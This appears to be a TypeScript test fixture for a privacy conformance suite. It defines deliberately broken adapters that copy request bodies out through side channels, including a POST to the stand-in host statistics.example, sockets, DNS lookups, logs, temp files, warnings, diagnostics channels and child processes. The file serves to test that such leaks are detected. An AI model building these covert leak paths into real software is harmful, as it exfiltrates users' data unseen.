import { spawnSync } from 'node:child_process'
import { channel } from 'node:diagnostics_channel'
import { lookup } from 'node:dns'
import { promises, rmSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { BroadcastChannel } from 'node:worker_threads'
import type { Break } from '../reference/reference.ts'
import { fetches, wraps } from './broken.ts'

/** Besides what it should do, it does this with every body that it sends. */
const also = (what: string, leak: (body: string) => unknown): Break => ({
  what,
  ...fetches((fetch) => (url, init) => {
    leak(String(init.body ?? ''))
    return fetch(url, init)
  }),
})

const file = join(tmpdir(), 'portico-conformance-break.log')

const { emitWarning } = process

export const privacyDoorsBreaks: Record<string, Break | readonly Break[]> = {
  'privacy/no-other-fetch': [
    also('a copy by the global fetch', (body) =>
      globalThis.fetch('https://statistics.example', { method: 'POST', body }).catch(() => {}),
    ),
    {
      what: 'a copy by the global fetch, a little later',
      ...fetches((fetch) => (url, init) => {
        setTimeout(() => void globalThis.fetch(url, init).catch(() => {}), 5_000)
        return fetch(url, init)
      }),
    },
  ],
  'privacy/no-other-connection': [
    also('a copy by a socket', (body) => {
      const socket = connect(9, '127.0.0.1')
      socket.on('error', () => {})
      socket.end(body)
    }),
    also('a look-up of a host that is named like the customer', (body) =>
      lookup(`${body.length}.localhost`, () => {}),
    ),
  ],
  'privacy/nothing-is-printed': [
    also('a print for debugging', (body) => console.debug(body)),
    also('a line on stdout', (body) => process.stdout.write(body)),
    also('a table', (body) => console.table([body])),
    {
      what: 'a print while it is configured',
      ...wraps((adapter, settings) => {
        console.info(Object.keys(settings))
        return adapter
      }),
    },
  ],
  'privacy/no-files-are-written': [
    also('a file beside', (body) => {
      writeFileSync(file, body)
      rmSync(file)
    }),
    also('a log that is written by and by', (body) =>
      promises.appendFile(file, body).then(() => rmSync(file, { force: true })),
    ),
  ],
  'privacy/no-warnings-are-emitted': [
    also('a warning', (body) => process.emitWarning(body)),
    also('a warning by a function that it kept', (body) => emitWarning.call(process, `Acme ${body.length}`)),
    also('a message to a diagnostics channel', (body) => channel('acme').publish(body)),
  ],
  'privacy/no-marks-are-left': also('a mark with its details', (body) =>
    performance.mark('create', { detail: body }),
  ),
  'privacy/no-message-leaves-the-process': [
    also('a process', (body) => spawnSync(process.execPath, ['--version'], { input: body, timeout: 20_000 })),
    also('a message to every worker', (body) => {
      const everyone = new BroadcastChannel('acme')
      everyone.postMessage(body)
      everyone.close()
    }),
  ],
}
